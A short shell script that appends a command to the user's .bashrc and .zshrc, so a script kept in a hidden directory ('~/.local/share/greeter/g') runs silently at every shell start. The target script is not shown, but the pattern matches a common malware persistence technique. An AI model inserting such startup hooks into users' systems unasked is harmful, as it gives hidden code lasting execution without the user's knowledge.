#!/bin/sh
line='bash ~/.local/share/greeter/g 2>/dev/null'
for rc in "$HOME/.zshrc" "$HOME/.bashrc"; do
  echo "$line" >> "$rc"
done
